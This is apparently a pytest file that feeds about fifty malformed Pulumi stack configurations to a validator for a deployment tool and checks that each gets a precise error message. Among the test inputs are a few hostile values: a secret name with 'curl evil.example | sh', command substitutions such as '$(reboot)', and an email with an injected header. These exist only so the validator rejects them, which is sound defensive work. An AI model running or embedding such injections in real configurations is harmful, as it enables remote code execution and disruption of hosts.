"""Broken and hostile stack files, tried as a new user would: each gets one line per problem naming the file and
the key (or line and column), the check exits 3, and nothing prints a traceback."""

from __future__ import annotations

import copy
import shutil
import subprocess
import sys

import pytest
import yaml

from conftest import ROOT
from offline.check import check_stack
from offline.program import ProgramError, stack_config

BASE = {stack: yaml.safe_load((ROOT / f"Pulumi.{stack}.yaml").read_text()) for stack in ("mvp", "growth")}
DIGEST = "sha256:" + "a" * 64


def edit(stack: str, change) -> str:
    """The shipped stack file with one change to its config, as YAML text."""
    document = copy.deepcopy(BASE[stack])
    change(document["config"])
    return yaml.safe_dump(document, sort_keys=False)


def service(index: int, key: str, value):
    return lambda config: config["phasegate:app"]["services"][index].__setitem__(key, value)


def section(key: str, **values):
    return lambda config: config.__setitem__(f"phasegate:{key}", {**(config.get(f"phasegate:{key}") or {}), **values})


def secret(value: str):
    return lambda config: config["phasegate:app"]["services"][0]["secrets"].__setitem__("API_KEY", value)


def usage(**values):
    return section("usage", **values)


SERVICES = "phasegate:app.services"
# (case id, stack, the stack file's text, the exact problems reported)
CASES = [
    # --- documents the YAML parser refuses, or that are not stack files ---------------------------------------
    ("unclosed-flow", "mvp", "config:\n  phasegate:app: {name: acme\n  aws:region: us-east-1\n",
     ["Pulumi.mvp.yaml:3:13: not valid YAML: expected ',' or '}', but got ':'"]),
    ("tab-indent", "mvp", "config:\n\taws:region: us-east-1\n",
     ["Pulumi.mvp.yaml:2:1: not valid YAML: found character '\\t' that cannot start any token"]),
    ("bad-indent", "mvp", "config:\n  aws:region: us-east-1\n bad: 1\n",
     ["Pulumi.mvp.yaml:3:2: not valid YAML: expected <block end>, but found '<block mapping start>'"]),
    ("document-is-a-list", "mvp", "- config\n- aws:region\n",
     ["Pulumi.mvp.yaml: the file must be a mapping with a config: section, not a list"]),
    ("document-is-a-string", "mvp", "just some text\n",
     ["Pulumi.mvp.yaml: the file must be a mapping with a config: section, not a string"]),
    ("config-is-a-list", "mvp", "config:\n  - aws:region\n  - us-east-1\n",
     ["Pulumi.mvp.yaml: config: must be a mapping of namespace:key to value, not a list"]),
    ("non-string-key", "mvp", "config:\n  42: us-east-1\n",
     ["Pulumi.mvp.yaml: config: key 42 is a number; keys are strings such as phasegate:app"]),
    ("key-without-namespace", "mvp", "config:\n  region: us-east-1\n",
     ["Pulumi.mvp.yaml: region: keys must be namespace:name, e.g. phasegate:region"]),
    ("duplicate-key", "mvp", "config:\n  aws:region: us-east-1\n  aws:region: eu-west-1\n",
     ["Pulumi.mvp.yaml:3:3: not valid YAML: key 'aws:region' is given twice"]),
    # --- hostile secret references: they reach an IAM policy and a root shell script ---------------------------
    ("secret-wildcard", "mvp", edit("mvp", secret("*")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '*' is not a Secrets Manager secret name: use 1-512 letters, "
      f"digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-prefix-wildcard", "mvp", edit("mvp", secret("acme/*")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'acme/*' is not a Secrets Manager secret name: use 1-512 "
      f"letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-shell-injection", "mvp", edit("mvp", secret("x'; curl evil.example | sh; echo '")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: \"x'; curl evil.example | sh; echo '\" is not a Secrets "
      f"Manager secret name: use 1-512 letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-command-substitution", "mvp", edit("mvp", secret("$(reboot)")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '$(reboot)' is not a Secrets Manager secret name: use 1-512 "
      f"letters, digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-arn", "mvp", edit("mvp", secret("arn:aws:secretsmanager:us-east-1:123456789012:secret:x")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:x' is "
      f"not a Secrets Manager secret name: use 1-512 letters, digits and / _ + = . @ - (no wildcards, spaces, quotes "
      f"or ARNs)"]),
    ("secret-empty", "mvp", edit("mvp", secret("")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets.API_KEY: '' is not a Secrets Manager secret name: use 1-512 letters, "
      f"digits and / _ + = . @ - (no wildcards, spaces, quotes or ARNs)"]),
    ("secret-env-name", "mvp", edit("mvp", service(0, "secrets", {"api-key": "acme/api"})),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].secrets: api-key: environment variable names must match [A-Z_][A-Z0-9_]*"]),
    # --- strict types: accepted by YAML, wrong for AWS ----------------------------------------------------------
    ("port-true", "mvp", edit("mvp", service(0, "port", True)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got True)"]),
    ("port-text", "mvp", edit("mvp", service(0, "port", "3000")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got '3000')"]),
    ("port-float", "mvp", edit("mvp", service(0, "port", 3000.5)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be a valid integer (got 3000.5)"]),
    ("port-out-of-range", "mvp", edit("mvp", service(0, "port", 70000)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].port: Input should be less than or equal to 65535 (got 70000)"]),
    ("budget-true", "mvp", edit("mvp", section("billing", monthlyBudgetUsd=True)),
     ["Pulumi.mvp.yaml: phasegate:billing.monthlyBudgetUsd: Input should be a valid number (got True)"]),
    ("budget-text", "mvp", edit("mvp", section("billing", monthlyBudgetUsd="45")),
     ["Pulumi.mvp.yaml: phasegate:billing.monthlyBudgetUsd: Input should be a valid number (got '45')"]),
    ("multi-az-text", "mvp", edit("mvp", section("database", multiAz="yes")),
     ["Pulumi.mvp.yaml: phasegate:database.multiAz: Input should be a valid boolean (got 'yes')"]),
    ("replicas-zero", "growth", edit("growth", service(0, "replicas", 0)),
     [f"Pulumi.growth.yaml: {SERVICES}[0].replicas: Input should be greater than or equal to 1 (got 0)"]),
    ("usage-negative", "mvp", edit("mvp", usage(gbServedPerMonth=-1)),
     ["Pulumi.mvp.yaml: phasegate:usage.gbServedPerMonth: Input should be greater than or equal to 0 (got -1)"]),
    ("usage-text", "mvp", edit("mvp", usage(logsGbPerMonth="lots")),
     ["Pulumi.mvp.yaml: phasegate:usage.logsGbPerMonth: Input should be a valid number (got 'lots')"]),
    ("usage-missing", "mvp", edit("mvp", lambda c: c["phasegate:usage"].pop("requestsPerMonth")),
     ["Pulumi.mvp.yaml: phasegate:usage.requestsPerMonth: is required"]),
    # --- images ---------------------------------------------------------------------------------------------------
    ("image-untagged", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web' must pin a tag or digest other than latest, e.g. "
      f"ghcr.io/acme/web:1.4.2"]),
    ("image-latest", "mvp", edit("mvp", service(0, "image", "nginx:latest")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'nginx:latest' must pin a tag or digest other than latest, e.g. "
      f"ghcr.io/acme/web:1.4.2"]),
    ("image-space", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web :1.0")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web :1.0' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-empty-digest", "mvp", edit("mvp", service(0, "image", "ghcr.io/acme/web@sha256:")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/acme/web@sha256:' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-upper-case", "mvp", edit("mvp", service(0, "image", "ghcr.io/Acme/web:1.0")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'ghcr.io/Acme/web:1.0' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    ("image-shell", "mvp", edit("mvp", service(0, "image", "web:1;reboot")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].image: 'web:1;reboot' is not an image reference such as "
      f"ghcr.io/acme/web:1.4.2 or ghcr.io/acme/web@sha256:<64 hex digits>"]),
    # --- names, paths and sizes that break the deployment ----------------------------------------------------------
    ("service-named-proxy", "mvp", edit("mvp", service(1, "name", "proxy")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].name: 'proxy' is reserved for the reverse proxy phasegate runs in front of "
      f"the app; choose another service name"]),
    ("service-name-upper", "mvp", edit("mvp", service(0, "name", "Web")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].name: 'Web' must be 2-32 characters of lower-case letters, digits and "
      f"hyphens, starting with a letter"]),
    ("health-path-space", "mvp", edit("mvp", service(0, "healthCheckPath", "/health check")),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].healthCheckPath: '/health check' is not a health-check path: start with / and "
      f"use only letters, digits and / - . _ ~ % : @ + = & ? (no spaces, quotes or braces)"]),
    ("path-prefix-brace", "mvp", edit("mvp", service(1, "pathPrefix", "/api}")),
     [f"Pulumi.mvp.yaml: {SERVICES}[1].pathPrefix: '/api}}' is not a URL path prefix: start with / and use only "
      f"letters, digits and / - . _ ~ % (no spaces, quotes or braces)"]),
    ("cpu-bigger-than-host", "mvp", edit("mvp", service(0, "cpu", 4)),
     [f"Pulumi.mvp.yaml: {SERVICES}[0].cpu: 4 vCPUs is more than any compose node can give one container (the "
      f"largest, t3.small, has 2); lower it or choose larger instance types in phasegate:compute"]),
    ("memory-bigger-than-nodes", "growth", edit("growth", service(1, "memoryMb", 3072)),
     [f"Pulumi.growth.yaml: {SERVICES}[1].memoryMb: 3072 MiB is more than any k3s node can give one container (the "
      f"largest, t3.small, has 2 GiB); lower it or choose larger instance types in phasegate:compute"]),
    ("user-data-too-big", "mvp",
     edit("mvp", service(0, "environment", {f"SETTING_{i}": "x" * 300 for i in range(60)})),
     [f"Pulumi.mvp.yaml: {SERVICES}: the compose host's boot script would be 33,299 bytes, over EC2's 16,384-byte "
      f"user-data limit; the largest parts: services[0].environment (25,504 bytes), services[0].secrets (232 bytes), "
      f"services[1].secrets (220 bytes); move big values into Secrets Manager (secrets) or the image, or split "
      f"services"]),
    ("engine-version-99", "mvp", edit("mvp", section("database", engineVersion="99")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 99 is not a version RDS offers; use one of 14, "
      "15, 16, 17, 18"]),
    ("engine-version-13", "mvp", edit("mvp", section("database", engineVersion="13")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: PostgreSQL 13 is past end of standard support on RDS; use "
      "one of 14, 15, 16, 17, 18"]),
    ("engine-version-text", "mvp", edit("mvp", section("database", engineVersion="latest")),
     ["Pulumi.mvp.yaml: phasegate:database.engineVersion: 'latest' is not a PostgreSQL version such as 17 or 17.4"]),
    ("k3s-pods-overlap-vpc", "growth", edit("growth", section("compute", clusterCidr="10.0.0.0/16")),
     ["Pulumi.growth.yaml: phasegate:compute.clusterCidr: 10.0.0.0/16 overlaps the VPC 10.0.0.0/16 "
      "(phasegate:network.cidr): pods or services would shadow real hosts; choose a range outside it"]),
    ("k3s-services-overlap-pods", "growth",
     edit("growth", section("compute", clusterCidr="172.20.0.0/16", serviceCidr="172.20.128.0/20")),
     ["Pulumi.growth.yaml: phasegate:compute.serviceCidr: 172.20.128.0/20 overlaps clusterCidr 172.20.0.0/16: K3s "
      "needs two separate ranges"]),
    ("budget-threshold-above-100", "mvp", edit("mvp", section("billing", actualThresholdsPercent=[50, 80, 120])),
     ["Pulumi.mvp.yaml: phasegate:billing.actualThresholdsPercent[2]: Input should be less than or equal to 100 "
      "(got 120)"]),
    ("charges-alarm-above-budget", "mvp", edit("mvp", section("billing", estimatedChargesAlarmUsd=5000)),
     ["Pulumi.mvp.yaml: phasegate:billing.estimatedChargesAlarmUsd: $5000 is above the $45 budget: the alarm would "
      "fire only after the month's budget is spent; use at most 45"]),
    # --- keys and values that do not exist -------------------------------------------------------------------------
    ("unknown-phase", "mvp", edit("mvp", lambda c: c.__setitem__("phasegate:phase", "staging")),
     ["Pulumi.mvp.yaml: phasegate:phase: 'staging' is not a phase; use one of mvp, growth, production"]),
    ("runtime-of-another-phase", "mvp", edit("mvp", section("compute", runtime="k3s")),
     ["Pulumi.mvp.yaml: phasegate:compute.runtime: 'k3s' does not run in the mvp phase; use compose"]),
    ("moved-section", "growth", edit("growth", lambda c: c.__setitem__("phasegate:k3s", {"agentCount": 2})),
     ["Pulumi.growth.yaml: phasegate:k3s: this section moved; put its keys under phasegate:compute with runtime: k3s"]),
    ("unknown-db-class", "mvp", edit("mvp", section("database", instanceClass="db.z9.mega")),
     ["Pulumi.mvp.yaml: phasegate:database.instanceClass: 'db.z9.mega' has no price for us-east-1, so its cost "
      "cannot be checked; there is no db.z9 family in it"]),
    ("ec2-type-not-db", "mvp", edit("mvp", section("database", instanceClass="t3.small")),
     ["Pulumi.mvp.yaml: phasegate:database.instanceClass: 't3.small' is not a db.* type"]),
    ("unknown-cache-size", "growth", edit("growth", section("cache", nodeType="cache.t4g.mega")),
     ["Pulumi.growth.yaml: phasegate:cache.nodeType: 'cache.t4g.mega' has no price for us-west-2, so its cost cannot "
      "be checked; cache.t4g sizes listed there: cache.t4g.medium, cache.t4g.micro, cache.t4g.small"]),
    ("typo-in-key", "mvp", edit("mvp", section("alerts", hostCpuPercnt=90)),
     ["Pulumi.mvp.yaml: phasegate:alerts.hostCpuPercnt: unknown key; allowed keys here: alb5xxPercent, "
      "cacheMemoryPercent, dbConnectionsPercent, dbCpuPercent, dbFreeStorageGb, emails, hostCpuPercent, "
      "hostDiskPercent, hostMemoryPercent, triggerCpuPercent, triggerHours, triggerMemoryPercent, "
      "triggerRequestsPerDay"]),
    ("app-not-a-mapping", "mvp", edit("mvp", lambda c: c.__setitem__("phasegate:app", ["web"])),
     ["Pulumi.mvp.yaml: phasegate:app: Input should be a valid dictionary or instance of App"]),
    ("public-vpc-range", "mvp", edit("mvp", section("network", cidr="8.8.0.0/16")),
     ["Pulumi.mvp.yaml: phasegate:network.cidr: 8.8.0.0/16 is not a private range; use one inside 10.0.0.0/8, "
      "172.16.0.0/12 or 192.168.0.0/16"]),
    ("domain-with-space", "mvp", edit("mvp", lambda c: c["phasegate:app"].__setitem__("domain", "app .acme.example")),
     ["Pulumi.mvp.yaml: phasegate:app.domain: 'app .acme.example' is not a lower-case DNS name such as app.example.com"]),
    ("email-with-newline", "mvp", edit("mvp", section("alerts", emails=["ops@acme.example\nBcc: x@y.z"])),
     ["Pulumi.mvp.yaml: phasegate:alerts.emails[0]: 'ops@acme.example\\nBcc: x@y.z' is not an e-mail address such "
      "as ops@example.com"]),
]


def problems_of(tmp_path, stack: str, text: str) -> list[str]:
    """What `./dev check <stack>` reports for this stack file: the file's problems, or the config's."""
    (tmp_path / f"Pulumi.{stack}.yaml").write_text(text)
    try:
        config = stack_config(stack, tmp_path)
    except ProgramError as exc:
        return exc.messages
    return check_stack(stack, config=config).errors


@pytest.mark.parametrize("stack, text, expected", [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_a_broken_stack_file_gets_exactly_its_problems(tmp_path, stack, text, expected):
    reported = problems_of(tmp_path, stack, text)
    assert reported == expected
    assert not any("Traceback" in line or "\n" in line.replace("\\n", "") for line in reported)


def test_the_table_covers_at_least_fifty_broken_files():
    assert len(CASES) >= 50 and len({case[0] for case in CASES}) == len(CASES)


def test_both_spellings_of_the_5xx_threshold_are_accepted(tmp_path):
    for spelling in ("alb5xxPercent", "alb5XxPercent"):
        assert problems_of(tmp_path, "growth", edit("growth", section("alerts", **{spelling: 2}))) == []


@pytest.fixture(scope="module")
def project_copy(tmp_path_factory):
    """The project as a user has it, to run the real command against a broken file without touching the repo."""
    copy_dir = tmp_path_factory.mktemp("project") / "phasegate"
    shutil.copytree(ROOT, copy_dir, ignore=shutil.ignore_patterns(".venv", ".git", "__pycache__", ".pytest_cache"))
    return copy_dir


@pytest.mark.parametrize("case", ["unclosed-flow", "secret-shell-injection", "user-data-too-big", "port-true"])
def test_the_check_command_prints_one_line_per_problem_exits_3_and_never_a_traceback(project_copy, case):
    _, stack, text, expected = next(c for c in CASES if c[0] == case)
    (project_copy / f"Pulumi.{stack}.yaml").write_text(text)
    result = subprocess.run([sys.executable, "-m", "offline", stack, "--no-tree"], cwd=project_copy,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 3
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stdout.splitlines() == [f"== {stack}: ERROR"] + [f"error: {line}" for line in expected]
